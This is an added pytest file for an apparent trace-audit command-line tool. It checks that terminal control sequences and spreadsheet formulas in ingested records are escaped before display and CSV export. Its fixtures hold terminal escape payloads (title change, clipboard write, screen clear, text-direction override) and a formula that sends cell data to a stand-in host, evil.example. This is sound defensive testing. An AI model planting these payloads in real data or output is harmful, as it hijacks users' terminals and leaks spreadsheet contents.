@@ -1,0 +1,57 @@
+"""Data never reaches the terminal as control codes, nor a spreadsheet as a formula.
+
+The planted sequences are the ones a hostile tester used: a title change (OSC 0), a clipboard
+write (OSC 52), a screen clear (CSI 2J), an 8-bit CSI (U+009B), a right-to-left override."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+from trace_audit.cli.main import main
+
+EVIL = ["\x1b]0;pwned\x07", "\x1b]52;c;aGVsbG8=\x07", "\x1b[2J", "\x9b31m", "\u202eexe.txt"]
+RAW = [c for e in EVIL for c in e if ord(c) < 0x20 or 0x7f <= ord(c) < 0xa0 or c == "\u202e"]
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _records() -> list[str]:
+    bad = "".join(EVIL)
+    turn = [
+        {"record": "task", "task_id": "t1" + bad, "user_id": "u1", "conversation_id": FORMULA, "status": "success",
+         "goal": "remind me " + bad, "started_at": "2026-11-20T08:00:00Z", "finished_at": "2026-11-20T08:00:05Z"},
+        {"record": "step", "task_id": "t1" + bad, "seq": 1, "tool": "create_reminder" + bad, "status": "failed",
+         "verified": False, "attempts": 2, "started_at": "2026-11-20T08:00:01Z", "error": "boom " + bad},
+        {"record": "message", "message_id": "m1", "conversation_id": FORMULA, "user_id": "u1", "role": "assistant",
+         "content": "Done, your reminder is set " + bad, "created_at": "2026-11-20T08:00:07Z",
+         "task_id": "t1" + bad},
+    ]
+    return [json.dumps(r) for r in turn] + ["not json " + bad]
+
+
+def _clean(text: str) -> None:
+    assert not [c for c in text if c in RAW], repr(text[:400])
+
+
+def test_no_control_codes_reach_the_terminal_and_no_formula_a_spreadsheet(tmp_path, capsys):
+    db = str(tmp_path / "w.duckdb")
+    src = tmp_path / "turns.jsonl"
+    src.write_text("\n".join(_records()) + "\n", encoding="utf-8")
+    outputs = []
+    for argv in (["ingest", str(src)], ["rules", "run", "--now", "2026-12-01T00:00:00Z"], ["findings"],
+                 ["findings", "--format", "jsonl"], ["explain", "t1" + "".join(EVIL), "--now", "2026-12-01T00:00:00Z"],
+                 ["stats", "--errors"], ["stats"]):
+        main([*argv, "--db", db])
+        out, err = capsys.readouterr()
+        outputs.append((argv[0], out, err))
+        _clean(out)
+        _clean(err)
+    explain = outputs[4][1]
+    assert "remind me \\u001b]0;pwned\\u0007" in explain  # shown, as text
+    for line in outputs[3][1].splitlines():
+        json.loads(line)  # still JSON
+    assert main(["findings", "--format", "csv", "--db", db]) == 0
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + FORMULA in cells
